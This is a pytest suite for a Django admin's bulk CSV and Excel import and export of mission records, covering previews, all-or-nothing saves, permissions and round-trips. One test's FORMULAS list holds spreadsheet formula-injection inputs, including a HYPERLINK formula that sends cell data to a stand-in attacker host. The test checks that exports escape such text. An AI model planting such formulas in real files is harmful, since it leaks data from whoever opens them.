"""Bulk import and export in the admin: bundle columns, CSV and Excel, preview, all or nothing."""

import csv
import io
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from mandates.models import Mandate
from missions.bundle import FILES
from missions.models import Appointment, Mission, Transition
from tests.factories import (
    AppointmentFactory,
    MandateAreaFactory,
    MandateFactory,
    MissionFactory,
    PersonFactory,
    TransitionFactory,
)

pytestmark = pytest.mark.django_db

MODELS = {
    "missions.csv": ("mission", Mission),
    "mandates.csv": ("mandate", Mandate),
    "transitions.csv": ("transition", Transition),
    "appointments.csv": ("appointment", Appointment),
}


def url(file: str, view: str) -> str:
    app = "mandates" if file == "mandates.csv" else "missions"
    return reverse(f"admin:{app}_{MODELS[file][0]}_{view}")


def csv_upload(rows: list[dict], name="missions.csv") -> SimpleUploadedFile:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode(), content_type="text/csv")


def mission_row(**overrides) -> dict:
    row = {
        "acronym": "UNSYN",
        "name": "Synthetic Office",
        "cluster": "field_mission",
        "kind": "country",
        "start_date": "2008-10",
        "end_date": "",
        "region": "Africa",
        "mandating_body": "security_council",
        "source": "synthetic",
        "unknown column": "x",
    }
    row.update(overrides)
    return row


def preview(client, file: str, upload):
    response = client.post(url(file, "import"), {"file": upload, "preview": "1"})
    assert response.status_code == 200
    return response


def test_import_shows_a_preview_then_saves_on_confirm(editor_client):
    MissionFactory(acronym="UNOLD", name="Old Name")
    upload = csv_upload([mission_row(), mission_row(acronym="UNOLD", name="New Name")])

    response = preview(editor_client, "missions.csv", upload)

    rows = {row.key: row for row in response.context["preview"].rows}
    assert rows["UNSYN"].outcome == "created"
    assert (rows["UNOLD"].outcome, "name" in rows["UNOLD"].fields) == ("updated", True)
    assert "1 to create, 1 to change, 0 unchanged, 0 rejected" in response.content.decode()
    assert not Mission.objects.filter(acronym="UNSYN").exists()
    assert Mission.objects.get(acronym="UNOLD").name == "Old Name"

    confirm = editor_client.post(
        url("missions.csv", "import"), {"payload": response.context["payload"], "confirm": "1"}
    )

    assert confirm.status_code == 302
    assert Mission.objects.get(acronym="UNSYN").start == "2008-10"
    assert Mission.objects.get(acronym="UNOLD").name == "New Name"


def test_a_file_with_a_bad_row_changes_nothing_and_says_which_row(editor_client):
    MissionFactory(acronym="UNOLD", name="Old Name")
    upload = csv_upload(
        [
            mission_row(),
            mission_row(acronym="UNOLD", name="New Name"),
            mission_row(acronym="UNBAD", start_date="2010", end_date="2009"),
            mission_row(acronym="UNBAD2", cluster="no_such_cluster"),
        ]
    )

    response = preview(editor_client, "missions.csv", upload)

    rows = {row.line: row for row in response.context["preview"].rows}
    assert rows[4].outcome == "rejected" and "end_date" in rows[4].errors[0]
    assert rows[5].outcome == "rejected" and "no_such_cluster" in rows[5].errors[0]
    assert "payload" not in response.context
    assert "Nothing has been saved" in response.content.decode()
    assert not Mission.objects.filter(acronym="UNSYN").exists()
    assert Mission.objects.get(acronym="UNOLD").name == "Old Name"


def test_a_tampered_confirmation_is_refused(editor_client):
    response = editor_client.post(
        url("missions.csv", "import"), {"payload": "forged", "confirm": "1"}
    )
    assert response.status_code == 302
    assert not Mission.objects.exists()


def test_an_excel_file_imports_with_dates_and_years_as_excel_stores_them(editor_client):
    book = Workbook()
    sheet = book.active
    sheet.append(["acronym", "name", "cluster", "kind", "start_date", "end_date"])
    # Excel keeps a typed year as a number and a typed day as a date.
    sheet.append(["UNXL", "Excel Office", "field_mission", "country", 2004, date(2006, 5, 31)])
    buffer = io.BytesIO()
    book.save(buffer)
    upload = SimpleUploadedFile("missions.xlsx", buffer.getvalue())

    response = preview(editor_client, "missions.csv", upload)
    editor_client.post(
        url("missions.csv", "import"), {"payload": response.context["payload"], "confirm": "1"}
    )

    mission = Mission.objects.get(acronym="UNXL")
    assert (mission.start, mission.end) == ("2004", "2006-05-31")


def test_the_reviewer_can_export_but_not_import(client, reviewer):
    MissionFactory(acronym="UNEXP")
    client.force_login(reviewer)
    assert client.get(url("missions.csv", "export"), {"format": "csv"}).status_code == 200
    assert client.get(url("missions.csv", "import")).status_code == 403
    assert (
        client.post(
            url("missions.csv", "import"), {"file": csv_upload([mission_row()])}
        ).status_code
        == 403
    )
    assert not Mission.objects.filter(acronym="UNSYN").exists()


def test_export_uses_the_bundle_columns_and_the_changelist_filters(editor_client):
    MissionFactory(acronym="UNAFR", start_date=date(2001, 1, 1), start_precision="year")
    MissionFactory(acronym="UNOTHER", category="peacekeeping_operation", kind="other")

    response = editor_client.get(
        url("missions.csv", "export"),
        {"format": "csv", "category__exact": "special_political_mission"},
    )

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0]) == FILES["missions.csv"]
    assert [(r["acronym"], r["start_date"]) for r in rows] == [("UNAFR", "2001")]


def build_world():
    area = MandateAreaFactory(slug="rule-of-law")
    alpha = MissionFactory(
        acronym="UNALPHA",
        start_date=date(2001, 1, 1),
        start_precision="year",
        end_date=date(2005, 6, 30),
    )
    beta = MissionFactory(acronym="UNBETA", start_date=date(2005, 7, 1))
    MandateFactory(
        mission=alpha,
        start_date=date(2001, 1, 1),
        start_precision="year",
        end_date=date(2003, 12, 31),
        end_precision="year",
        mandate_areas=[area],
        source="synthetic mandate",
    )
    MandateFactory(mission=beta, start_date=date(2005, 7, 1), mandate_areas=[area])
    TransitionFactory(predecessor=alpha, successor=beta, date=date(2005, 7, 1), source="synthetic")
    AppointmentFactory(
        mission=alpha,
        person=PersonFactory(name="A. Synthetic", gender="female"),
        start_date=date(2001, 3, 1),
        start_precision="month",
        end_date=date(2004, 12, 31),
    )


def snapshot(client, fmt: str) -> dict[str, bytes]:
    return {file: client.get(url(file, "export"), {"format": fmt}).content for file in MODELS}


def table(file: str, content: bytes, fmt: str) -> list[list[str]]:
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode())))
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_registry_reproduces_the_data(editor_client, fmt):
    build_world()
    exported = snapshot(editor_client, fmt)
    assert len(table("mandates.csv", exported["mandates.csv"], fmt)) == 3
    Mission.objects.all().delete()
    assert not Mandate.objects.exists() and not Appointment.objects.exists()

    for file in MODELS:  # missions first: the others name them
        upload = SimpleUploadedFile(f"{file[:-4]}.{fmt}", exported[file])
        response = preview(editor_client, file, upload)
        assert response.context["preview"].ok, response.context["preview"].rows
        editor_client.post(
            url(file, "import"), {"payload": response.context["payload"], "confirm": "1"}
        )

    again = snapshot(editor_client, fmt)
    for file in MODELS:
        assert table(file, again[file], fmt) == table(file, exported[file], fmt), file
    assert Mandate.objects.get(mission__acronym="UNALPHA").end == "2003"


def test_a_confirm_that_no_longer_validates_saves_no_row_at_all(editor_client):
    MissionFactory(acronym="UNONE", start_date=date(2001, 1, 1))
    doomed = MissionFactory(acronym="UNTWO", start_date=date(2001, 1, 1))
    upload = csv_upload(
        [
            {"acronym": "UNONE", "in_force_from": "2001", "in_force_until": "2002"},
            {"acronym": "UNTWO", "in_force_from": "2001", "in_force_until": "2002"},
        ],
        name="mandates.csv",
    )
    response = preview(editor_client, "mandates.csv", upload)
    assert response.context["preview"].counts["created"] == 2
    doomed.delete()  # someone else's edit between the preview and the confirmation

    confirm = editor_client.post(
        url("mandates.csv", "import"), {"payload": response.context["payload"], "confirm": "1"}
    )

    assert confirm.status_code == 200
    rows = confirm.context["preview"].rows
    assert rows[1].outcome == "rejected" and "unknown mission 'UNTWO'" in rows[1].errors[0]
    assert not Mandate.objects.exists()


def test_a_file_without_its_key_column_is_refused_whole(editor_client):
    upload = csv_upload([{"name": "No Acronym Office", "cluster": "field_mission"}])
    response = preview(editor_client, "missions.csv", upload)
    assert "acronym: column is missing from the header" in response.content.decode()
    assert response.context["preview"].rows == [] and "payload" not in response.context


def test_a_file_that_is_not_a_table_is_a_field_error(editor_client):
    upload = SimpleUploadedFile("missions.xlsx", b"PK\x03\x04 not really a workbook")
    response = editor_client.post(url("missions.csv", "import"), {"file": upload})
    assert "not a readable Excel file" in str(response.context["form"].errors["file"])


def test_text_that_looks_like_a_formula_stays_text_in_excel(editor_client):
    MissionFactory(acronym="UNFORM", notes='=HYPERLINK("http://example.org")')
    response = editor_client.get(url("missions.csv", "export"), {"format": "xlsx"})
    rows = table("missions.csv", response.content, "xlsx")
    notes = rows[1][rows[0].index("notes")]
    assert notes == '=HYPERLINK("http://example.org")'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


FORMULAS = {
    "UNEQ": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "UNPLUS": "+1+1",
    "UNMINUS": "- a note in a bulleted list",
    "UNAT": "@SUM(A1:A2)",
    "UNTAB": "\t=1+1",
    "UNQUOTE": "'=1+1",  # already quoted: must come back as typed, quote included
    "UNPLAIN": "'plain",
}


def test_text_that_looks_like_a_formula_is_quoted_in_csv_and_imports_back_unquoted(editor_client):
    for acronym, notes in FORMULAS.items():
        MissionFactory(acronym=acronym, notes=notes)
    response = editor_client.get(url("missions.csv", "export"), {"format": "csv"})
    rows = {row["acronym"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert {acronym: row["notes"] for acronym, row in rows.items()} == {
        "UNEQ": "'" + FORMULAS["UNEQ"],
        "UNPLUS": "'+1+1",
        "UNMINUS": "'- a note in a bulleted list",
        "UNAT": "'@SUM(A1:A2)",
        "UNTAB": "'\t=1+1",
        "UNQUOTE": "''=1+1",
        "UNPLAIN": "'plain",
    }
    assert rows["UNEQ"]["end_date"] == "" and rows["UNEQ"]["acronym"] == "UNEQ"

    Mission.objects.all().delete()
    upload = SimpleUploadedFile("missions.csv", response.content)
    confirm = preview(editor_client, "missions.csv", upload)
    assert confirm.context["preview"].ok, confirm.context["preview"].rows
    editor_client.post(
        url("missions.csv", "import"), {"payload": confirm.context["payload"], "confirm": "1"}
    )
    # The importer trims the whitespace around every value, the tab included.
    assert dict(Mission.objects.values_list("acronym", "notes")) == {**FORMULAS, "UNTAB": "=1+1"}


def test_a_preview_of_one_file_cannot_be_confirmed_into_another(editor_client):
    MissionFactory(acronym="UNCROSS")
    response = preview(editor_client, "missions.csv", csv_upload([mission_row()]))
    confirm = editor_client.post(
        url("mandates.csv", "import"), {"payload": response.context["payload"], "confirm": "1"}
    )
    assert confirm.status_code == 302
    assert not Mission.objects.filter(acronym="UNSYN").exists()
